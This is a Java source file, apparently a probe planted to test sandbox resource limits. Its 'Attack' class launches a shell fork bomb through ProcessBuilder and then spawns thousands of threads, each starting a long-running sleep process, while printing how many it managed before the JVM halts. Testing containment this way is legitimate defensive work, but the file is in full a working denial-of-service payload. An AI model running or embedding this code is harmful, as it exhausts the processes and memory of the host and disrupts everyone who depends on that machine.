package planted;

import java.io.IOException;

public final class Attack {
    public static void go() {
        System.out.println("TRIED");
        System.out.flush();
        int started = 0;
        try {
            new ProcessBuilder("sh", "-c", "bomb() { bomb | bomb & }; bomb").inheritIO().start();
            for (; started < 5_000; started++) {
                new Thread(Attack::stay).start();
            }
        } catch (IOException | OutOfMemoryError refused) {
            System.out.println(started + " threads, then " + refused);
        }
        if (started > 1_000) {
            System.out.println("REACHED " + started + " threads");
        }
        System.out.flush();
        Runtime.getRuntime().halt(0);
    }

    private static void stay() {
        try {
            new ProcessBuilder("sleep", "600").start();
            Thread.sleep(600_000);
        } catch (IOException | InterruptedException | OutOfMemoryError refused) {
            return;
        }
    }
}
